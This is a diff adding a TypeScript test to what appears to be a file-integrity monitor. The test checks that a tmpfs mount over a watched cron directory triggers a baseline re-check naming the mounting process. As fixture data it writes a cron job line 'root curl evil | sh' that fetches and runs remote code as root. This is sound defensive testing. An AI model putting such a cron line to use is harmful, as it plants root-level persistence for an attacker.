@@ -113,4 +113,40 @@ test('reconfigure: newly covered paths are hashed in the background (progress wh
   }
 });
 
+test('a mount on a baseline directory re-checks the whole baseline: changes name the mounter and recheck mount; a remount does not', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'lsmwatch-state-'));
+  try {
+    const cron = join(dir, 'cron.d');
+    mkdirSync(cron);
+    writeFileSync(join(cron, 'job'), '* * * * * root true\n');
+    const output = recordingOutput();
+    const tracking = openStateTracking({
+      dbPath: join(dir, 'db', 'state.db'),
+      config: { ...DEFAULT_STATE_CONFIG, baseline: [cron + '/'] },
+      output,
+      notices: recordingNotices(),
+      nowRfc3339: () => 'now',
+      showProgress: false,
+    });
+    await tracking.start();
+    const mounter = processInfo({ pid: 9, tid: 9, comm: { text: 'mount' } });
+    const mountEvent = (kind: 'new' | 'remount') =>
+      fileEvent({ operation: 'mount', path: { text: cron }, mode: 0o040755, process: mounter, mount: { kind, flags: [], fstype: 'tmpfs', source: { text: 'x' }, beforeOp: false } });
+    // what a tmpfs over the directory shows instead (no event reaches the tracker for it)
+    writeFileSync(join(cron, 'job'), '* * * * * root curl evil | sh\n');
+    tracking.consume(mountEvent('remount'));
+    await new Promise((r) => setTimeout(r, 700));
+    assert.not.ok(output.records.some((r) => r.type === 'change'), 'a remount shows the same files');
+    tracking.consume(mountEvent('new'));
+    const end = Date.now() + 5000;
+    while (!output.records.some((r) => r.type === 'change') && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
+    const change = output.records.find((r) => r.type === 'change');
+    assert.ok(change, 'a change line from the re-check');
+    assert.equal([change.path, change.action, change.recheck, (change.by as Record<string, unknown>).pid], [join(cron, 'job'), 'modified', 'mount', 9]);
+    await tracking.stop();
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
 test.run();
